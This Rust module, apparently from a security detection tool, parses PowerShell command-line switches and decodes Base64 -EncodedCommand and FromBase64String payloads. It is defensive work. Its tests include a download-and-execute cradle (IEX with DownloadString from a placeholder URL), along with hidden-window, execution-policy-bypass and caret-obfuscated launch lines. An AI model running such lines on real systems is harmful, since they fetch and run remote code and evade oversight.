//! PowerShell command-line switches and encoded payloads.
//!
//! `powershell.exe` / `pwsh` accept any unambiguous prefix of a parameter name, introduced by
//! `-`, `/`, or the en dash, em dash and horizontal bar (U+2013..U+2015, PowerShell's
//! `CharExtensions.IsDash`), so `-e`, `-en`, `/enc`, `–EncodedCommand` and `-ec` all mean
//! `-EncodedCommand`. Substring rules (`-enc`) miss most of these; this module parses the
//! switches the way PowerShell's `CommandLineParameterParser` does (same order of prefix
//! checks, so `-e` is EncodedCommand but `-ex` is ExecutionPolicy) for every `powershell` /
//! `pwsh` invocation found in a command line — including ones nested in `cmd /c`, tasks and
//! cron lines — and decodes the Base64 argument as UTF-16LE.
//!
//! It also decodes `FromBase64String('...')` literals inside scripts when the result is
//! printable text. All decoding is capped: hostile input cannot make us allocate much.
//!
//! Reference: PowerShell `src/Microsoft.PowerShell.ConsoleHost/host/msh/CommandLineParameterParser.cs`;
//! `powershell.exe -?` (Windows PowerShell 5.1).

use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use super::observation::{image_name, strip_exe};
use crate::text::utf16::{decode_le_lossy, looks_utf16le};

/// Longest encoded argument we try to decode (characters).
const MAX_ENCODED: usize = 1 << 20;
/// Longest decoded text we keep (characters).
pub const MAX_DECODED: usize = 64 * 1024;
/// PowerShell invocations parsed per command line. Every `powershell` word starts one, and
/// each keeps the rest of the line as its command: without a cap, a line of 200 000
/// `powershell` words made 200 000 copies of the rest of itself (quadratic time and memory).
pub const MAX_INVOCATIONS: usize = 64;
/// Words of one invocation looked at as switches (PowerShell has about 30; a value-taking
/// switch repeated would otherwise run every invocation to the end of the line).
const MAX_SWITCH_WORDS: usize = 64;
/// Longest `command` kept (bytes, cut on a char boundary).
pub const MAX_COMMAND: usize = 64 * 1024;

/// What a PowerShell invocation asked for.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PsInvocation {
    /// The `-EncodedCommand` argument as written.
    pub encoded_command: Option<String>,
    /// `-WindowStyle` value (lowercased).
    pub window_style: Option<String>,
    /// `-ExecutionPolicy` value (lowercased).
    pub execution_policy: Option<String>,
    pub no_profile: bool,
    pub non_interactive: bool,
    pub no_logo: bool,
    /// Text after `-Command` (or the bare command when no switch names it), at most
    /// [`MAX_COMMAND`] bytes.
    pub command: Option<String>,
    pub file: Option<String>,
    /// `-EncodedArguments` was used.
    pub encoded_arguments: bool,
}

impl PsInvocation {
    pub fn hidden_window(&self) -> bool {
        matches!(self.window_style.as_deref(), Some("hidden") | Some("1"))
    }

    pub fn policy_bypass(&self) -> bool {
        matches!(
            self.execution_policy.as_deref(),
            Some("bypass") | Some("unrestricted")
        )
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Switch {
    Help,
    Login,
    NoExit,
    NoProfile,
    NoLogo,
    NonInteractive,
    ServerMode,
    Interactive,
    ConfigurationName,
    Command,
    WindowStyle,
    File,
    ExecutionPolicy,
    EncodedCommand,
    EncodedArguments,
    Version,
    InputFormat,
    OutputFormat,
    Sta,
    Mta,
    PsConsoleFile,
    WorkingDirectory,
}

/// `(full name, shortest accepted prefix, switch)` in PowerShell's own order of checks: the
/// first entry whose name starts with the key, and which the key is at least as long as the
/// minimum of, wins. Windows PowerShell 5.1 and PowerShell 7 agree on the entries that matter
/// here; 5.1-only names (`version`, `sta`, `mta`, `psconsolefile`) come last.
const SWITCHES: &[(&str, &str, Switch)] = &[
    ("help", "h", Switch::Help),
    ("?", "?", Switch::Help),
    ("login", "l", Switch::Login),
    ("noexit", "noe", Switch::NoExit),
    ("noprofile", "nop", Switch::NoProfile),
    ("nologo", "nol", Switch::NoLogo),
    ("noninteractive", "noni", Switch::NonInteractive),
    ("socketservermode", "so", Switch::ServerMode),
    ("servermode", "s", Switch::ServerMode),
    ("namedpipeservermode", "nam", Switch::ServerMode),
    ("sshservermode", "sshs", Switch::ServerMode),
    ("interactive", "i", Switch::Interactive),
    ("configurationname", "config", Switch::ConfigurationName),
    ("command", "c", Switch::Command),
    ("windowstyle", "w", Switch::WindowStyle),
    ("workingdirectory", "wo", Switch::WorkingDirectory),
    ("file", "f", Switch::File),
    ("executionpolicy", "ex", Switch::ExecutionPolicy),
    ("ep", "ep", Switch::ExecutionPolicy),
    ("encodedcommand", "e", Switch::EncodedCommand),
    ("ec", "ec", Switch::EncodedCommand),
    ("encodedarguments", "encodeda", Switch::EncodedArguments),
    ("ea", "ea", Switch::EncodedArguments),
    ("inputformat", "inp", Switch::InputFormat),
    ("outputformat", "o", Switch::OutputFormat),
    ("version", "v", Switch::Version),
    ("sta", "sta", Switch::Sta),
    ("mta", "mta", Switch::Mta),
    ("psconsolefile", "psc", Switch::PsConsoleFile),
];

fn lookup_switch(key: &str) -> Option<Switch> {
    // `-WindowStyle` before `-WorkingDirectory`: PowerShell 7 checks windowstyle with minimum
    // "w", so `-wo` would already be windowstyle there; order kept as PowerShell has it.
    SWITCHES
        .iter()
        .find(|(full, min, _)| full.starts_with(key) && key.len() >= min.len())
        .map(|(_, _, s)| *s)
}

fn is_dash(c: char) -> bool {
    matches!(c, '-' | '/' | '\u{2013}' | '\u{2014}' | '\u{2015}')
}

/// Splits a command line into words the way a Windows program would see them (double quotes
/// group, backslash-quote escapes a quote), good enough for switch parsing.
pub fn split_command_line(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_quotes = false;
    let mut has_token = false;
    let mut chars = cmd.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if chars.peek() == Some(&'"') => {
                chars.next();
                cur.push('"');
                has_token = true;
            }
            '"' => {
                in_quotes = !in_quotes;
                has_token = true;
            }
            c if c.is_whitespace() && !in_quotes => {
                if has_token {
                    out.push(std::mem::take(&mut cur));
                    has_token = false;
                }
            }
            c => {
                cur.push(c);
                has_token = true;
            }
        }
    }
    if has_token {
        out.push(cur);
    }
    out
}

/// Every PowerShell invocation in `cmd`: the program itself when `image` is powershell/pwsh,
/// and each `powershell` / `pwsh` word inside the line (`cmd /c powershell -enc ...`,
/// `mshta vbscript:...Run("powershell -nop ...")`), the first [`MAX_INVOCATIONS`] of them.
/// cmd's `^` escapes are removed first.
pub fn powershell_invocations(image: Option<&str>, cmd: &str) -> Vec<PsInvocation> {
    let cleaned = cmd.replace('^', "");
    let words = split_command_line(&cleaned);
    let mut out = Vec::new();
    let is_ps = |w: &str| {
        let n = image_name(w);
        let n = n.trim_end_matches(['"', '\'', ')', ';']);
        matches!(strip_exe(n), "powershell" | "pwsh" | "powershell_ise")
    };
    let mut starts: Vec<usize> = words
        .iter()
        .enumerate()
        .filter(|(_, w)| is_ps(w))
        .map(|(i, _)| i + 1)
        .take(MAX_INVOCATIONS)
        .collect();
    let image_is_ps = image.is_some_and(is_ps);
    if image_is_ps && starts.is_empty() {
        // The logged command line may hold only arguments (400 HostApplication variants), or
        // start with the image under another name.
        starts.push(usize::from(
            !words.is_empty() && !words[0].starts_with(is_dash),
        ));
    }
    for s in starts {
        out.push(parse_ps_switches(words.get(s..).unwrap_or(&[])));
    }
    out
}

/// `words` joined by spaces, at most [`MAX_COMMAND`] bytes: the cost is the kept text's, not
/// the rest of the line's.
fn join_capped(words: &[String]) -> String {
    let mut out = String::new();
    for (n, w) in words.iter().enumerate() {
        if n > 0 {
            out.push(' ');
        }
        if out.len() + w.len() >= MAX_COMMAND {
            let room = MAX_COMMAND.saturating_sub(out.len());
            out.push_str(crate::text::truncate_to_boundary(w, room));
            break;
        }
        out.push_str(w);
    }
    out
}

/// Parses powershell.exe arguments (the words after the program name), at most
/// [`MAX_SWITCH_WORDS`] of them as switches.
pub fn parse_ps_switches(args: &[String]) -> PsInvocation {
    let mut inv = PsInvocation::default();
    let mut i = 0;
    while i < args.len().min(MAX_SWITCH_WORDS) {
        let word = args[i].as_str();
        let Some(first) = word.chars().next() else {
            i += 1;
            continue;
        };
        if !is_dash(first) {
            // The first non-switch word starts the command (PowerShell treats it as -Command).
            inv.command = Some(join_capped(&args[i..]));
            break;
        }
        let body = &word[first.len_utf8()..];
        // `-Switch:value` is accepted for some switches; split it off.
        let (key, inline) = match body.split_once(':') {
            Some((k, v)) => (k, Some(v.to_string())),
            None => (body, None),
        };
        let key = key.to_lowercase();
        let value = |i: &mut usize| -> Option<String> {
            if inline.is_some() {
                return inline.clone();
            }
            *i += 1;
            args.get(*i).cloned()
        };
        match lookup_switch(&key) {
            Some(Switch::EncodedCommand) => inv.encoded_command = value(&mut i),
            Some(Switch::WindowStyle) => inv.window_style = value(&mut i).map(|v| v.to_lowercase()),
            Some(Switch::ExecutionPolicy) => {
                inv.execution_policy = value(&mut i).map(|v| v.to_lowercase())
            }
            Some(Switch::NoProfile) => inv.no_profile = true,
            Some(Switch::NonInteractive) => inv.non_interactive = true,
            Some(Switch::NoLogo) => inv.no_logo = true,
            Some(Switch::EncodedArguments) => {
                inv.encoded_arguments = true;
                let _ = value(&mut i);
            }
            Some(Switch::Command) => {
                inv.command = Some(join_capped(args.get(i + 1..).unwrap_or(&[])));
                break;
            }
            Some(Switch::File) => {
                inv.file = value(&mut i);
                break;
            }
            Some(
                Switch::ConfigurationName
                | Switch::InputFormat
                | Switch::OutputFormat
                | Switch::Version
                | Switch::PsConsoleFile
                | Switch::WorkingDirectory,
            ) => {
                let _ = value(&mut i);
            }
            Some(_) => {}
            // Not a PowerShell switch: `-` alone means "read stdin"; anything else ends the
            // switches as PowerShell would refuse it; keep what we have.
            None => break,
        }
        i += 1;
    }
    inv
}

fn lenient_engine() -> GeneralPurpose {
    GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::Indifferent)
            .with_decode_allow_trailing_bits(true),
    )
}

/// Decodes Base64 leniently: whitespace and quotes removed, padding optional, URL-safe
/// characters mapped. `None` when it is not Base64 at all.
pub fn decode_base64(text: &str) -> Option<Vec<u8>> {
    let mut s: String = text
        .chars()
        .filter(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '`'))
        .take(MAX_ENCODED)
        .map(|c| match c {
            '-' => '+',
            '_' => '/',
            c => c,
        })
        .collect();
    while s.ends_with('=') {
        s.pop();
    }
    // A dangling single character can never be Base64; drop it rather than fail.
    if s.len() % 4 == 1 {
        s.pop();
    }
    if s.len() < 4 {
        return None;
    }
    lenient_engine().decode(s.as_bytes()).ok()
}

/// Decodes an `-EncodedCommand` argument: Base64 of UTF-16LE text. `None` unless the result
/// is mostly printable text.
pub fn decode_encoded_command(arg: &str) -> Option<String> {
    let bytes = decode_base64(arg)?;
    let text = decode_le_lossy(&bytes)?;
    printable(&text).then(|| cap(text))
}

/// Looks like script text: at least 90 % of the characters are printable ASCII or tab, CR,
/// LF. Scripts are code, so even non-English ones are mostly ASCII; this is what tells a real
/// UTF-16LE payload from random bytes read as UTF-16 (which decode to CJK "text").
pub fn printable(text: &str) -> bool {
    let mut total = 0usize;
    let mut bad = 0usize;
    for c in text.chars().take(4096) {
        total += 1;
        if !(c.is_ascii_graphic() || matches!(c, ' ' | '\t' | '\r' | '\n')) {
            bad += 1;
        }
    }
    total > 0 && bad * 10 <= total
}

fn cap(mut s: String) -> String {
    if s.chars().count() > MAX_DECODED {
        s = s.chars().take(MAX_DECODED).collect();
        s.push_str("…[truncated]");
    }
    s
}

/// A decoded payload and where it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    pub method: &'static str,
    pub original: String,
    pub text: String,
}

/// Every `-EncodedCommand` payload of the PowerShell invocations in a command line.
pub fn decode_command_line(image: Option<&str>, cmd: &str) -> Vec<Decoded> {
    powershell_invocations(image, cmd)
        .into_iter()
        .filter_map(|inv| {
            let arg = inv.encoded_command?;
            let text = decode_encoded_command(&arg)?;
            Some(Decoded {
                method: "powershell -EncodedCommand (Base64, UTF-16LE)",
                original: arg,
                text,
            })
        })
        .collect()
}

/// `FromBase64String('...')` literals in a script, decoded when the result is printable
/// (UTF-16LE or UTF-8). Compressed or binary payloads are left alone (the compression rule
/// reports them). At most `limit` payloads.
pub fn decode_script_literals(script: &str, limit: usize) -> Vec<Decoded> {
    let mut out = Vec::new();
    let lower = script.to_ascii_lowercase();
    let mut from = 0;
    while out.len() < limit {
        let Some(pos) = lower[from..].find("frombase64string(") else {
            break;
        };
        let start = from + pos + "frombase64string(".len();
        from = start;
        let rest = script[start..].trim_start();
        let Some(q) = rest.chars().next().filter(|c| *c == '\'' || *c == '"') else {
            continue;
        };
        let body = &rest[1..];
        let Some(end) = body.find(q) else { continue };
        let literal = &body[..end];
        if literal.len() < 8 {
            continue;
        }
        let Some(bytes) = decode_base64(literal) else {
            continue;
        };
        let text = match std::str::from_utf8(&bytes) {
            Ok(t) if printable(t) && !looks_utf16le(&bytes) => t.to_string(),
            _ => match decode_le_lossy(&bytes) {
                Some(t) if printable(&t) => t,
                _ => continue,
            },
        };
        out.push(Decoded {
            method: "FromBase64String literal",
            original: literal.chars().take(4096).collect(),
            text: cap(text),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn enc(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn every_encodedcommand_abbreviation_decodes() {
        let payload = enc("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
        let full = "encodedcommand";
        let mut forms: Vec<String> = (1..=full.len()).map(|n| full[..n].to_string()).collect();
        forms.push("ec".into());
        forms.push("EncodedCommand".into());
        forms.push("eNc".into());
        for form in forms {
            for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
                let cmd = format!("powershell.exe -nop {dash}{form} {payload}");
                let d = decode_command_line(Some("C:\\x\\powershell.exe"), &cmd);
                assert_eq!(d.len(), 1, "{cmd}");
                assert!(d[0].text.contains("DownloadString"), "{cmd}");
            }
        }
    }

    #[test]
    fn ex_is_execution_policy_not_encoded_command() {
        let inv = &powershell_invocations(None, "powershell -ex bypass -e AAAA")[0];
        assert_eq!(inv.execution_policy.as_deref(), Some("bypass"));
        assert_eq!(inv.encoded_command.as_deref(), Some("AAAA"));
        let inv = &powershell_invocations(None, "pwsh -exec Bypass -ep unrestricted -c x")[0];
        assert!(inv.policy_bypass());
        assert_eq!(inv.command.as_deref(), Some("x"));
    }

    #[test]
    fn window_style_and_flags() {
        let inv = &powershell_invocations(
            None,
            "powershell.exe -WindowStyle Hidden -nop -noni -c \"\"",
        )[0];
        assert!(inv.hidden_window() && inv.no_profile && inv.non_interactive);
        let inv = &powershell_invocations(None, "powershell -w 1 -NoP -NonI -W Hidden")[0];
        assert!(inv.hidden_window() && inv.no_profile && inv.non_interactive);
        // `-no` is ambiguous in PowerShell: not taken as -NoProfile.
        assert!(!powershell_invocations(None, "powershell -no x")[0].no_profile);
    }

    #[test]
    fn nested_in_cmd_and_without_padding() {
        let payload = enc("Start-Process calc");
        let trimmed = payload.trim_end_matches('=');
        let cmd = format!("cmd.exe /c p^owershell -NoP -sta -NonI -W Hidden -Enc {trimmed}");
        let d = decode_command_line(Some("C:\\Windows\\System32\\cmd.exe"), &cmd);
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].text, "Start-Process calc");
    }

    #[test]
    fn image_only_powershell() {
        let payload = enc("whoami");
        let d = decode_command_line(Some("powershell.exe"), &format!("-e {payload}"));
        assert_eq!(d[0].text, "whoami");
    }

    #[test]
    fn garbage_is_not_decoded() {
        assert!(decode_encoded_command("!!!!").is_none());
        // "ABCD" read as UTF-16LE is two CJK characters: not a script.
        assert!(decode_encoded_command("QUJDRA==").is_none());
        assert!(decode_command_line(None, "powershell -e").is_empty());
        assert!(decode_command_line(None, "").is_empty());
    }

    #[test]
    fn frombase64string_literals() {
        let s = "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('U2V0LUNvbnRlbnQgLXBhdGggIiRlbnY6U3lzdGVtUm9vdC9UZW1wL2FydC1tYXJrZXIudHh0Ig==')))";
        let d = decode_script_literals(s, 4);
        assert_eq!(d.len(), 1);
        assert!(d[0].text.starts_with("Set-Content -path"));
        let u16 = format!("[Convert]::FromBase64String(\"{}\")", enc("Get-Process"));
        assert_eq!(decode_script_literals(&u16, 4)[0].text, "Get-Process");
        // Binary (e.g. gzip) payloads are not "decoded".
        assert!(decode_script_literals("FromBase64String('H4sIAAAAAAAEAO29B2A')", 4).is_empty());
    }

    /// Regression: a line of `powershell` words, or of one value-taking switch repeated,
    /// parsed every invocation to the end of the line (quadratic).
    #[test]
    fn many_invocations_are_capped() {
        let words = "powershell ".repeat(20_000);
        let invs = powershell_invocations(None, &words);
        assert_eq!(invs.len(), MAX_INVOCATIONS);
        let cmd = invs[0].command.as_deref().unwrap();
        assert!(cmd.len() <= MAX_COMMAND && cmd.starts_with("powershell powershell"));
        let switches = format!("pwsh {}", "-e powershell ".repeat(20_000));
        let invs = powershell_invocations(None, &switches);
        assert_eq!(invs.len(), MAX_INVOCATIONS);
        assert_eq!(invs[0].encoded_command.as_deref(), Some("powershell"));
        // The cap cuts on a char boundary.
        let long = format!("powershell -c {}", "é".repeat(MAX_COMMAND));
        let c = powershell_invocations(None, &long)[0]
            .command
            .clone()
            .unwrap();
        assert!(c.len() <= MAX_COMMAND && c.chars().all(|c| c == 'é'));
    }

    #[test]
    fn split_respects_quotes() {
        assert_eq!(
            split_command_line(r#"a "b c" d\"e"#),
            vec!["a".to_string(), "b c".into(), "d\"e".into()]
        );
    }
}
